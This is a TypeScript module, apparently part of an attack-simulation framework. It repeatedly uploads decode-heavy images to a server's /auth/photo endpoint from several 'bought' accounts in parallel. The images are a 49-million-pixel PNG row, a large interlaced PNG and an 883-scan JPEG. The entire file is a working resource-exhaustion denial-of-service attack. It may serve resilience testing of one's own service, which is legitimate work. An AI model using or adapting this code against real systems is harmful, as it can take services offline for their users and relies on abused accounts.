import { emptyPng, jpegOfScans, pngWith } from '../../../testing/costly-pictures.ts';
import { formOf } from '../../frame/caller.ts';
import type { Attack } from './attack.ts';

/** At once: the server decodes them one after the other. */
const SENDERS = 3;
const ROW_WIDTH = 49_000_000;
const SCANS = 883;
/** The last two are below the bounds of sides and of what is held. */
const SCANS_SIDE = 5_784;
const INTERLACED_SIDE = 4_000;

/**
 * Pictures that are small to send and costly to decode, one after the other from bought accounts: a row of 49,000,000
 * pixels, an interlaced PNG, and a JPEG of 883 scans.
 */
export const sendPictures: Attack = async ({ loot, attempt, isOver, count }) => {
  const side = { width: INTERLACED_SIDE, height: INTERLACED_SIDE };
  const rows = Buffer.alloc(INTERLACED_SIDE * (INTERLACED_SIDE * 4 + 2));
  const pictures = [
    { type: 'image/png', bytes: emptyPng(ROW_WIDTH, 1) },
    { type: 'image/jpeg', bytes: jpegOfScans(SCANS_SIDE, SCANS) },
    { type: 'image/png', bytes: pngWith({ ...side, depth: 8, isInterlaced: true }, rows) },
  ].map(({ type, bytes }) => ({ type, bytes: new Uint8Array(bytes) }));
  let turn = 0;
  const send = async (): Promise<void> => {
    while (!isOver()) {
      const picture = pictures[turn % pictures.length];
      const donor = loot.donors[turn % loot.donors.length];
      turn += 1;
      if (!picture || !donor) return;
      const { status } = await attempt(
        donor,
        'POST',
        '/auth/photo',
        formOf('photo', picture.bytes, picture.type),
      );
      if (status === 200 || status === 201) count('pictures taken');
    }
  };
  await Promise.all(Array.from({ length: SENDERS }, send));
};
